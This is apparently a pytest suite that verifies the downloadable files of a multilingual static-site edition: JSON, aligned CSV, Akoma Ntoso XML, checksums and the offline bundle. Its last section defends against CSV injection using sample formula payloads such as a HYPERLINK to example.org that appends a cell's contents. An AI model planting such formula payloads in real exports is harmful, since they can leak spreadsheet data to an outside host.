"""The files under /downloads/, read back from the built site and checked against source/.

What the files should hold is read here independently of hooks/: the languages from
source/languages.yml, each translation's paragraphs, headings and translator's notes from its
text file, and the Chinese words by replaying normalizations.yml on the supplied text (as
tests/test_build.py does).
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote, urljoin

import jsonschema
import pytest
import yaml

from hooks.outputs import downloads as downloads_module
from hooks.provenance import Provenance
from scripts import offline
from scripts import release as releases
from tests.htmltext import Page
from tests.test_build import _supplied_paragraphs

ROOT = Path(__file__).resolve().parents[2]
SOURCE = ROOT / "source"
AKN = "{http://docs.oasis-open.org/legaldocml/ns/akn/3.0}"
LANGUAGES = [entry["code"] for entry in
             yaml.safe_load((SOURCE / "languages.yml").read_text(encoding="utf-8"))["languages"]]
SOURCE_LANGUAGE = LANGUAGES[0]
EDITION_ID = yaml.safe_load((SOURCE / "edition.yml").read_text(encoding="utf-8"))["edition"]["id"]
PARAGRAPH = re.compile(r"^(\d+)\. (.+)$")
HEADING = re.compile(r"^\[([a-z0-9-]+)\] (.+)$")
# ISO 639-2 (terminology) codes, as the Akoma Ntoso naming convention names languages
ISO_639_2 = {"zh": "zho", "en": "eng", "fr": "fra", "es": "spa", "ru": "rus", "ar": "ara"}


def text_file(code: str) -> dict[int, dict]:
    """Paragraph number -> words, page slug, heading and translator's notes, from
    source/text/{code}.txt, read line by line."""
    paragraphs: dict[int, dict] = {}
    page = heading = None
    last = None
    for line in (SOURCE / "text" / f"{code}.txt").read_text(encoding="utf-8").splitlines():
        if match := HEADING.match(line):
            page, heading = match.groups()
        elif match := PARAGRAPH.match(line):
            last = int(match.group(1))
            paragraphs[last] = {"text": match.group(2), "page": page, "heading": heading, "notes": []}
        elif line.startswith("> "):
            paragraphs[last]["notes"].append(line[2:])
    return paragraphs


def editorial_notes() -> dict[int, list[str]]:
    """Paragraph -> ids of its editorial notes, from normalizations.yml."""
    data = yaml.safe_load((SOURCE / "normalizations.yml").read_text(encoding="utf-8"))
    out: dict[int, list[str]] = {}
    for note in data.get("notes", []):
        out.setdefault(note["paragraph"], []).append(note["id"])
    return out


def expected_words(code: str) -> dict[int, str]:
    if code == SOURCE_LANGUAGE:
        return _supplied_paragraphs()
    return {n: p["text"] for n, p in text_file(code).items()}


def folder(site: Path) -> Path:
    return site / downloads_module.DIR


def load_json(site: Path, name: str):
    return json.loads((folder(site) / name).read_text(encoding="utf-8"))


def sums(site: Path) -> dict[str, str]:
    lines = (folder(site) / "SHA256SUMS").read_text(encoding="ascii").splitlines()
    found = [re.fullmatch(r"([0-9a-f]{64})  (\S+)", line) for line in lines]
    assert all(found), lines
    return {m.group(2): m.group(1) for m in found}


def expected_names() -> set[str]:
    return ({f"{EDITION_ID}.{code}.json" for code in LANGUAGES} | {f"{EDITION_ID}.{code}.akn.xml" for code in LANGUAGES}
            | {f"{EDITION_ID}.{code}.pdf" for code in LANGUAGES}  # the names issue 17 gives
            | {f"{EDITION_ID}.aligned.json", f"{EDITION_ID}.aligned.csv", f"{EDITION_ID}.schema.json"}
            | {"a4p-instruments.json", "a4p-instruments.schema.json"})  # the names issue 14 gives


def test_every_file_is_listed_in_sha256sums_with_its_checksum(built_site):
    listed = sums(built_site)
    assert set(listed) == expected_names()
    on_disk = {p.name for p in folder(built_site).iterdir()} - {"SHA256SUMS", "index.html"}
    assert on_disk == expected_names()
    for name, digest in listed.items():
        assert hashlib.sha256((folder(built_site) / name).read_bytes()).hexdigest() == digest, name


def test_chinese_canonical_text_has_every_paragraph():
    """The independent reading agrees with itself: the canonical Chinese has paragraphs 1…N
    with no gap, and every translation has the same numbers."""
    numbers = sorted(_supplied_paragraphs())
    assert numbers == list(range(1, len(numbers) + 1))
    for code in LANGUAGES[1:]:
        assert sorted(text_file(code)) == numbers, code


@pytest.mark.parametrize("code", LANGUAGES)
def test_language_json_holds_every_paragraph_as_in_the_source(built_site, code):
    data = load_json(built_site, f"{EDITION_ID}.{code}.json")
    words = expected_words(code)
    source = text_file(code)
    notes = editorial_notes()
    assert data["language"] == code
    assert data["status"] == ("source" if code == SOURCE_LANGUAGE else "unofficial translation")
    assert data["source_language"] == SOURCE_LANGUAGE
    assert [p["number"] for p in data["paragraphs"]] == sorted(words)
    for para in data["paragraphs"]:
        n = para["number"]
        assert isinstance(n, int)
        assert para["text"] == words[n], f"{code} paragraph {n}"
        assert para["sha256"] == hashlib.sha256(words[n].encode("utf-8")).hexdigest()
        assert para["page"] == source[n]["page"]
        assert para["heading"] == source[n]["heading"]
        assert para["url"].endswith(f"/{para['page']}/#para-{n}")
        assert [x["text"] for x in para["notes"] if x["type"] == "translator"] == source[n]["notes"]
        assert [x["id"] for x in para["notes"] if x["type"] == "editorial"] == notes.get(n, [])


def test_json_carries_the_release_of_the_build(built_site):
    rel = releases.release(ROOT)
    for code in LANGUAGES:
        data = load_json(built_site, f"{EDITION_ID}.{code}.json")
        assert (data["version"], data["date"]) == (rel.version, rel.date)
    assert load_json(built_site, f"{EDITION_ID}.aligned.json")["version"] == rel.version


@pytest.mark.parametrize("code", LANGUAGES)
def test_language_json_is_valid_against_the_schema(built_site, code):
    schema = load_json(built_site, f"{EDITION_ID}.schema.json")
    jsonschema.Draft202012Validator.check_schema(schema)
    data = load_json(built_site, f"{EDITION_ID}.{code}.json")
    jsonschema.validate(data, schema, cls=jsonschema.Draft202012Validator)


def test_the_schema_refuses_what_is_not_the_format(built_site):
    """The schema can fail: a number as a string, a paragraph missing, an unknown status."""
    schema = load_json(built_site, f"{EDITION_ID}.schema.json")
    good = load_json(built_site, f"{EDITION_ID}.{SOURCE_LANGUAGE}.json")
    broken = [
        {**good, "paragraphs": [{**good["paragraphs"][0], "number": "1"}, *good["paragraphs"][1:]]},
        {**good, "paragraphs": good["paragraphs"][1:]},
        {**good, "status": "official"},
        {**good, "paragraphs": [{**good["paragraphs"][0], "sha256": "x"}, *good["paragraphs"][1:]]},
    ]
    for data in broken:
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(data, schema, cls=jsonschema.Draft202012Validator)


def test_aligned_json_has_every_language_paragraph_by_paragraph(built_site):
    data = load_json(built_site, f"{EDITION_ID}.aligned.json")
    assert [lang["code"] for lang in data["languages"]] == LANGUAGES
    words = {code: expected_words(code) for code in LANGUAGES}
    pages = text_file(LANGUAGES[-1])
    assert [p["number"] for p in data["paragraphs"]] == sorted(words[SOURCE_LANGUAGE])
    for para in data["paragraphs"]:
        n = para["number"]
        assert para["page"] == pages[n]["page"]
        assert para["text"] == {code: words[code][n] for code in LANGUAGES}, f"paragraph {n}"


def test_aligned_csv_opens_as_utf8_with_a_byte_order_mark(built_site):
    raw = (folder(built_site) / f"{EDITION_ID}.aligned.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark for spreadsheets"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["number", "page", *LANGUAGES]
    words = {code: expected_words(code) for code in LANGUAGES}
    pages = text_file(LANGUAGES[-1])
    assert [int(row[0]) for row in rows[1:]] == sorted(words[SOURCE_LANGUAGE])
    for row in rows[1:]:
        n = int(row[0])
        assert row[1] == pages[n]["page"]
        assert row[2:] == [words[code][n] for code in LANGUAGES], f"paragraph {n}"


@pytest.mark.parametrize("code", LANGUAGES)
def test_akoma_ntoso_has_every_paragraph_with_its_eid_num_and_words(built_site, code):
    tree = ET.parse(folder(built_site) / f"{EDITION_ID}.{code}.akn.xml")
    root = tree.getroot()
    assert root.tag == f"{AKN}akomaNtoso"
    statement = root.find(f"{AKN}statement")
    assert statement is not None and statement.get("name") == "declaration"
    words = expected_words(code)
    source = text_file(code)
    paragraphs = statement.findall(f".//{AKN}paragraph")
    assert [p.get("eId") for p in paragraphs] == [f"para_{n}" for n in sorted(words)]
    note_ids = {n.get("eId"): n for n in statement.iter(f"{AKN}note")}
    for para in paragraphs:
        n = int(para.get("eId").removeprefix("para_"))
        nums = para.findall(f"{AKN}num")
        assert [x.text for x in nums] == [str(n)]
        p = para.find(f"{AKN}content/{AKN}p")
        assert "".join(p.itertext()) == words[n], f"{code} paragraph {n}"
        refs = [ref.get("href").removeprefix("#") for ref in p.iter(f"{AKN}noteRef")]
        assert all(ref in note_ids for ref in refs)
        translator = ["".join(note_ids[r].find(f"{AKN}p").itertext()) for r in refs  # Chinese in <span>s
                      if note_ids[r].get("class") == "translator"]
        assert translator == source[n]["notes"]
        assert len([r for r in refs if note_ids[r].get("class") == "editorial"]) == len(editorial_notes().get(n, []))
    headings = {box.get("name"): box.find(f"{AKN}heading").text for box in statement.iter(f"{AKN}hcontainer")}
    assert headings == {p["page"]: p["heading"] for p in source.values()}


@pytest.mark.parametrize("code", LANGUAGES)
def test_akoma_ntoso_frbr_names_the_language_and_the_edition(built_site, code):
    root = ET.parse(folder(built_site) / f"{EDITION_ID}.{code}.akn.xml").getroot()
    ident = root.find(f"{AKN}statement/{AKN}meta/{AKN}identification")
    for level in ("FRBRWork", "FRBRExpression", "FRBRManifestation"):
        node = ident.find(f"{AKN}{level}")
        assert node is not None, level
        for required in ("FRBRthis", "FRBRuri", "FRBRdate", "FRBRauthor"):
            assert node.find(f"{AKN}{required}") is not None, f"{level}/{required}"
    expression = ident.find(f"{AKN}FRBRExpression")
    language = expression.find(f"{AKN}FRBRlanguage").get("language")
    assert language == ISO_639_2[code]
    assert expression.find(f"{AKN}FRBRalias").get("value") == f"{EDITION_ID}.{code}"
    assert f"/{language}" in expression.find(f"{AKN}FRBRuri").get("value")
    translation = expression.find(f"{AKN}FRBRtranslation")
    assert (translation is None) == (code == SOURCE_LANGUAGE)


@pytest.mark.parametrize("code", LANGUAGES)
def test_downloads_page_lists_each_file_with_size_and_checksum(built_site, code):
    prefix = "" if code == SOURCE_LANGUAGE else f"{code}/"
    page_path = f"{prefix}downloads/"
    html = (built_site / page_path / "index.html").read_text(encoding="utf-8")
    page = Page(html)
    assert page.lang == code
    listed = sums(built_site)
    links = {}
    for link in page.find("a"):
        href = link.get("href", "")
        if "downloads/" in urljoin(f"/{page_path}", href) and not href.endswith("/"):
            links[unquote(urljoin(f"/{page_path}", href)).lstrip("/")] = href
    files = {**listed, "SHA256SUMS": hashlib.sha256((folder(built_site) / "SHA256SUMS").read_bytes()).hexdigest()}
    for name, digest in files.items():
        target = f"downloads/{name}"
        assert target in links, f"{code}: no link to {name}"
        assert not links[target].startswith(("/", "http")), "links are relative, for file://"
        assert digest in html, f"{code}: no checksum for {name}"
        size = (folder(built_site) / name).stat().st_size
        assert f'data-bytes="{size}"' in html, f"{code}: no size for {name}"


def test_files_are_the_same_bytes_in_another_process(built_site, edition, monkeypatch, tmp_path):
    """Deterministic: the model, given the same release and history, makes the same bytes here
    as the build's own process did; the PDFs typeset anew here, not read from the cache."""
    from hooks.outputs import pdf

    monkeypatch.setattr(pdf, "CACHE", tmp_path)
    monkeypatch.setattr(downloads_module, "_made", [])
    typeset = pdf.stats.typeset
    rel = releases.release(ROOT)
    on_disk = load_json(built_site, f"{EDITION_ID}.aligned.json")
    history = tuple((lang["code"], lang["text_changed"]) for lang in on_disk["languages"])
    from hooks.urls import Scheme
    from scripts.build_site import site_url
    online = Scheme(site_url(ROOT / "mkdocs.yml"), SOURCE_LANGUAGE)
    for item in downloads_module.files(edition, online, Provenance(rel.version, rel.date, history)):
        assert (folder(built_site) / item.name).read_bytes() == item.data, item.name
    assert pdf.stats.typeset - typeset == len(LANGUAGES), "every PDF typeset here"


# bytes: the offline zip, six languages with full text and downloads. Issue 7 set 1 MB for the
# pages alone, issues 8 and 10 1.5 MB with the full text and the downloads, and issue 14 (what came
# after: the instruments file and the paragraphs' blocks, later a timeline page per language)
# 1.6 MiB. The one check of it. Issue 17's PDFs are counted apart (tests/outputs/test_pdf.py has
# their own budgets): what they take in the zip is left out of this sum.
ZIP_LIMIT = 1_677_721


def test_offline_bundle_holds_the_downloads_listed_beside_the_zip(bundle):
    import zipfile

    lines = (bundle.dist / "SHA256SUMS").read_text(encoding="ascii").splitlines()
    assert lines[0].endswith(f"  {bundle.zip.name}"), "the zip's own line stays first"
    listed = dict(reversed(line.split("  ", 1)) for line in lines[1:])
    assert set(listed) == {f"downloads/{name}" for name in expected_names()}
    with zipfile.ZipFile(bundle.zip) as archive:
        for path, digest in listed.items():
            assert hashlib.sha256((bundle.dist / path).read_bytes()).hexdigest() == digest, path
            assert hashlib.sha256(archive.read(path)).hexdigest() == digest, f"{path} in the zip"
        pdfs = offline.pdf_bytes(archive)
    assert pdfs, "the PDFs are in the zip"
    size = bundle.zip.stat().st_size - pdfs
    print(f"offline bundle without the PDFs: {size} bytes ({size / 1e6:.3f} MB); PDFs {pdfs}")
    assert size < ZIP_LIMIT, f"{bundle.zip.name}: {size} bytes without its PDFs, over {ZIP_LIMIT}"


@pytest.mark.parametrize("code", [LANGUAGES[0], LANGUAGES[-1]])
def test_offline_downloads_page_links_to_the_files_on_disk(bundle, code):
    """From file:// the page's relative links lead to the files in the bundle."""
    page_file = bundle.folder / ("" if code == SOURCE_LANGUAGE else f"{code}/") / "downloads.html"
    hrefs = [link["href"] for link in Page(page_file.read_text(encoding="utf-8")).find("a")
             if "downloads/" in link.get("href", "")]
    names = {(page_file.parent / href).resolve().relative_to(bundle.folder.resolve()).as_posix() for href in hrefs}
    assert names >= {f"downloads/{name}" for name in expected_names() | {"SHA256SUMS"}}
    assert all((bundle.folder / name).is_file() for name in names)


def test_files_are_made_once_for_the_same_edition_scheme_and_provenance(edition, monkeypatch):
    """Every language's build asks for the files twice (its page, its writing): made once."""
    from hooks.urls import Scheme

    made = []
    make = downloads_module._files
    monkeypatch.setattr(downloads_module, "_files", lambda *args: made.append(args) or make(*args))
    monkeypatch.setattr(downloads_module, "_made", [])
    online = Scheme("https://example.org/", SOURCE_LANGUAGE)
    first = downloads_module.files(edition, online, Provenance("v1", "2026-01-02", ()))
    first.clear()
    again = downloads_module.files(edition, Scheme("https://example.org/", SOURCE_LANGUAGE),
                                   Provenance("v1", "2026-01-02", ()))
    assert len(made) == 1 and again and again[-1].name == downloads_module.SUMS
    later = downloads_module.files(edition, online, Provenance("v2", "2026-01-03", ()))
    assert len(made) == 2 and later != again


# ---- the aligned CSV opens as text in a spreadsheet: no cell runs as a formula ---------------

# What a spreadsheet takes as the start of a formula (OWASP, CSV injection): = + - @, a tab and a
# carriage return. Such a cell gets a leading apostrophe and double quotes: it opens as text.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = {start: f'{start}HYPERLINK("https://example.org/?"&A1,"click"), 1+1' for start in FORMULA_STARTS}


def hostile_edition(edition, code: str):
    """The edition with paragraphs 1 to 6 of ``code`` starting as a formula, and a note on the
    first starting so too (a copy: the session's edition is untouched)."""
    hostile = copy.deepcopy(edition)
    for number, words in enumerate(HOSTILE.values(), start=1):
        hostile.texts[code].paragraphs[number] = words
    hostile.texts[code].translator_notes = {**hostile.texts[code].translator_notes, 1: ("=1+1", "@SUM(A1)")}
    return hostile


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_that_starts_as_a_formula_opens_as_text(edition, start):
    code = LANGUAGES[1]
    number = FORMULA_STARTS.index(start) + 1
    data = downloads_module.aligned_csv(hostile_edition(edition, code))
    rows = csv_rows(data)
    row = next(row for row in rows[1:] if row[0] == str(number))
    assert row[rows[0].index(code)] == "'" + HOSTILE[start]
    quoted = '"\'' + HOSTILE[start].replace('"', '""') + '"'
    assert f",{quoted}," in data.decode("utf-8-sig") or f",{quoted}\r\n" in data.decode("utf-8-sig")


def test_only_cells_that_start_as_a_formula_change(edition):
    """The whole CSV read back is the model's words, with the apostrophe exactly where a cell
    starts as a formula; the real edition has no such cell and no apostrophe added."""
    code = LANGUAGES[1]
    for model in (edition, hostile_edition(edition, code)):
        codes = [language.code for language in model.languages]
        expected = [["number", "page", *codes]] + [
            [str(number), spec.slug, *(("'" if words.startswith(tuple(FORMULA_STARTS)) else "") + words
                                       for words in (model.texts[c].paragraphs[number] for c in codes))]
            for spec in model.structure.pages for number in spec.numbers]
        assert csv_rows(downloads_module.aligned_csv(model)) == expected
    assert not any(cell.startswith("'") for row in csv_rows(downloads_module.aligned_csv(edition)) for cell in row)


def test_a_formula_start_in_the_source_file(src):
    """Through the real reader: paragraphs of source/text/en.txt that start with = + - @."""
    from hooks.edition import load

    path = src / "text" / "en.txt"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    starts = iter(["=", "+", "-", "@"])
    for i, line in enumerate(lines):
        match = PARAGRAPH.match(line.rstrip("\n"))
        if match and int(match.group(1)) <= 4:
            lines[i] = f"{match.group(1)}. {next(starts)}{match.group(2)}\n"
    path.write_text("".join(lines), encoding="utf-8")
    hostile = load.load_edition(load.Layout(src))
    rows = csv_rows(downloads_module.aligned_csv(hostile))
    column = rows[0].index("en")
    for row in rows[1:5]:
        words = hostile.texts["en"].paragraphs[int(row[0])]
        assert words[0] in "=+-@" and row[column] == "'" + words


def test_the_json_keeps_the_words_exact(edition):
    """Only the CSV is prefixed: the JSON holds the words, and their SHA-256 is of the words."""
    from hooks.urls import Scheme

    code = LANGUAGES[1]
    hostile = hostile_edition(edition, code)
    online = Scheme("https://example.org/", SOURCE_LANGUAGE)
    document = downloads_module.language_document(hostile, code, online, Provenance("v1", "2026-01-02", ()))
    by_number = {para["number"]: para for para in document["paragraphs"]}
    for number, words in enumerate(HOSTILE.values(), start=1):
        assert by_number[number]["text"] == words
        assert by_number[number]["sha256"] == hashlib.sha256(words.encode("utf-8")).hexdigest()
    assert [note["text"] for note in by_number[1]["notes"] if note["text"] in ("=1+1", "@SUM(A1)")] == \
        ["=1+1", "@SUM(A1)"]
    aligned = downloads_module.aligned_document(hostile, online, Provenance("v1", "2026-01-02", ()))
    assert [p["text"][code] for p in aligned["paragraphs"][:6]] == list(HOSTILE.values())


@pytest.mark.parametrize("code", LANGUAGES)
def test_the_downloads_page_says_how_formula_cells_are_written(edition, code):
    """Each language's note on the CSV names the characters and the apostrophe put before them."""
    note = edition.strings[code]["downloads.csv_note"]
    for sign in ("=", "+", "-", "@", "'"):
        assert sign in note, f"{code}: {sign!r} is not in downloads.csv_note: {note}"
